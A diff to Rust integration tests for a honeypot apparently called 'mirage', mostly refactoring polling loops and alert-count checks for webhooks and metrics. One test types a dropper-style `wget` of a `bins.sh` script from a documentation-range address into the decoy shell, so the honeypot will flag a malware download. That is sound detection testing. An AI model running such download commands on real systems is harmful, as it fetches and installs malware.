@@ -6,7 +6,7 @@ use std::net::SocketAddr;
 use std::path::Path;
 use std::sync::atomic::{AtomicUsize, Ordering};
 use std::sync::{Arc, Mutex};
-use std::time::{Duration, Instant};
+use std::time::Duration;
 
 use mirage::config::{AlertConfig, WebhookConfig, WebhookFormat};
 use mirage::events::{SessionId, Severity};
@@ -15,7 +15,7 @@ use mirage::outputs::webhook::{AlertPayload, DeadLetter, Dispatcher};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::{TcpListener, TcpStream};
 
-use crate::common::{NodeProcess, SshShell, http_get};
+use crate::common::{NodeProcess, SshShell, http_get, poll_until_async};
 
 /// How the receiver answers every request.
 #[derive(Clone, Copy, Debug)]
@@ -78,19 +78,12 @@ impl Receiver {
 
     /// Waits (bounded) until at least `n` requests arrived; returns them all.
     async fn wait_for(&self, n: usize) -> Vec<Received> {
-        let deadline = Instant::now() + Duration::from_secs(30);
-        loop {
-            let got = self.requests();
-            if got.len() >= n {
-                return got;
-            }
-            assert!(
-                Instant::now() < deadline,
-                "{} of {n} requests arrived: {got:?}",
-                got.len()
-            );
-            tokio::time::sleep(Duration::from_millis(50)).await;
-        }
+        poll_until_async(
+            Duration::from_secs(30),
+            || Some(self.requests()).filter(|got| got.len() >= n),
+            || format!("fewer than {n} requests arrived: {:?}", self.requests()),
+        )
+        .await
     }
 }
 
@@ -161,15 +154,12 @@ fn metrics(node: &NodeProcess) -> String {
 
 /// Waits (bounded) until `/metrics` shows `line`.
 async fn wait_for_metric(node: &NodeProcess, line: &str) {
-    let deadline = Instant::now() + Duration::from_secs(60);
-    loop {
-        let text = metrics(node);
-        if text.contains(line) {
-            return;
-        }
-        assert!(Instant::now() < deadline, "no {line:?} in\n{text}");
-        tokio::time::sleep(Duration::from_millis(100)).await;
-    }
+    poll_until_async(
+        Duration::from_secs(60),
+        || metrics(node).contains(line).then_some(()),
+        || format!("no {line:?} in\n{}", metrics(node)),
+    )
+    .await;
 }
 
 fn dead_letter(data_dir: &Path) -> DeadLetter {
@@ -182,19 +172,12 @@ async fn wait_for_dead_letters(
     n: usize,
 ) -> Vec<mirage::outputs::webhook::DeadLetterEntry> {
     let dead = dead_letter(data_dir);
-    let deadline = Instant::now() + Duration::from_secs(90);
-    loop {
-        let entries = dead.read_all();
-        if entries.len() >= n {
-            return entries;
-        }
-        assert!(
-            Instant::now() < deadline,
-            "{} of {n} dead letters: {entries:?}",
-            entries.len()
-        );
-        tokio::time::sleep(Duration::from_millis(100)).await;
-    }
+    poll_until_async(
+        Duration::from_secs(90),
+        || Some(dead.read_all()).filter(|entries| entries.len() >= n),
+        || format!("fewer than {n} dead letters: {:?}", dead.read_all()),
+    )
+    .await
 }
 
 /// The commands every node test types, with what each must answer.
@@ -245,8 +228,23 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
     let mut shell = SshShell::open(node.ssh).await;
     let out = shell.run("wget http://198.51.100.7/bins.sh").await;
     assert!(out.contains("saved ["), "{out:?}");
-    // The login, the download, and the session's class (a dropper) as it became known.
-    let got = receiver.wait_for(3).await;
+    // The login, the download, and the session's class (a dropper) as it became known (and
+    // the built-in `dropper` reflex's tag, an info alert too).
+    let wanted = ["login_success", "download", "new_attacker_class"];
+    let got = poll_until_async(
+        Duration::from_secs(30),
+        || {
+            let got = receiver.requests();
+            let rules: Vec<serde_json::Value> =
+                got.iter().map(|r| r.json()["rule"].clone()).collect();
+            wanted
+                .iter()
+                .all(|w| rules.contains(&(*w).into()))
+                .then_some(got)
+        },
+        || format!("not every alert arrived: {:?}", receiver.requests()),
+    )
+    .await;
     let bodies: Vec<serde_json::Value> = got.iter().map(Received::json).collect();
     for request in &got {
         assert!(
@@ -283,7 +281,8 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
         .unwrap();
     assert_eq!(class["severity"], "info");
     assert_eq!(class["details"]["class"], "malware_dropper");
-    assert_eq!(class["details"]["source"], "rules");
+    // The node loads the repository's models, whose trained classifier names the class.
+    assert_eq!(class["details"]["source"], "tree");
     assert_eq!(class["session"], login["session"]);
     // The webhook got the same alerts the log has.
     let events = tokio::task::block_in_place(|| {
@@ -297,7 +296,13 @@ async fn a_webhook_answering_200_gets_each_alert_with_its_severity() {
         .unwrap();
     assert_eq!(logged["uuid"], download["uuid"]);
     assert_eq!(logged["message"], download["message"]);
-    wait_for_metric(&node, "mirage_webhook_sent_total{sink=\"json0\"} 3").await;
+    // Every alert raised was sent: the three above and the reflex's.
+    let raised = receiver.wait_for(4).await.len();
+    wait_for_metric(
+        &node,
+        &format!("mirage_webhook_sent_total{{sink=\"json0\"}} {raised}"),
+    )
+    .await;
     let text = metrics(&node);
     assert!(
         text.contains("mirage_alerts_raised_total{rule=\"download\",severity=\"warning\"} 1"),
@@ -548,14 +553,17 @@ async fn slack_gets_its_incoming_webhook_format_above_its_threshold() {
     assert_eq!(body["blocks"][0]["type"], "section");
     assert_eq!(body["blocks"][0]["text"]["type"], "mrkdwn");
     assert_eq!(body["blocks"][1]["fields"][0]["text"], "*shasum*\nab12");
-    let deadline = Instant::now() + Duration::from_secs(10);
-    while !metrics
-        .render()
-        .contains("mirage_webhook_sent_total{sink=\"slack0\"} 1")
-    {
-        assert!(Instant::now() < deadline, "{}", metrics.render());
-        tokio::time::sleep(Duration::from_millis(20)).await;
-    }
+    poll_until_async(
+        Duration::from_secs(10),
+        || {
+            metrics
+                .render()
+                .contains("mirage_webhook_sent_total{sink=\"slack0\"} 1")
+                .then_some(())
+        },
+        || metrics.render(),
+    )
+    .await;
     assert_eq!(receiver.requests().len(), 1);
 }
 
@@ -647,27 +655,6 @@ fn decoy_request(addr: SocketAddr, method: &str, path: &str, form: &str) -> u16 
         .unwrap_or(0)
 }
 
-/// Waits (bounded) until the JSON log holds at least `n` events matching `pred`; returns all.
-fn wait_for_count(
-    node: &NodeProcess,
-    n: usize,
-    pred: impl Fn(&serde_json::Value) -> bool,
-) -> Vec<serde_json::Value> {
-    let deadline = Instant::now() + Duration::from_secs(30);
-    loop {
-        let events = node.log_events();
-        let seen = events.iter().filter(|e| pred(e)).count();
-        if seen >= n {
-            return events;
-        }
-        assert!(
-            Instant::now() < deadline,
-            "{seen} of {n} events in the JSON log: {events:#?}"
-        );
-        std::thread::sleep(Duration::from_millis(50));
-    }
-}
-
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn reflexes_are_one_event_and_one_alert_per_episode() {
     let receiver = Receiver::start(Answer::Status(200)).await;
@@ -698,11 +685,12 @@ async fn reflexes_are_one_event_and_one_alert_per_episode() {
     let refused = statuses.iter().filter(|&&s| s == 403).count();
     assert!(refused >= gets - 10, "{statuses:?}");
     // Every request is in the log before the reflexes are counted.
-    let events = tokio::task::block_in_place(|| {
-        wait_for_count(&node, logins + gets, |e| {
+    tokio::task::block_in_place(|| {
+        node.wait_for_events("requests", logins + gets, |e| {
             e["eventid"] == "mirage.http.request"
         })
     });
+    let events = node.log_events();
     let reflexes: Vec<&serde_json::Value> = events
         .iter()
         .filter(|e| e["eventid"] == "mirage.reflex")
@@ -748,7 +736,7 @@ async fn reflexes_are_one_event_and_one_alert_per_episode() {
     named.sort_unstable();
     assert_eq!(named, ["http_login_lockout", "http_rate_limit"]);
     let events = tokio::task::block_in_place(|| {
-        wait_for_count(&node, 2, |e| {
+        node.wait_for_events("reflex alerts", 2, |e| {
             e["eventid"] == "mirage.alert" && e["rule"] == "reflex"
         })
     });
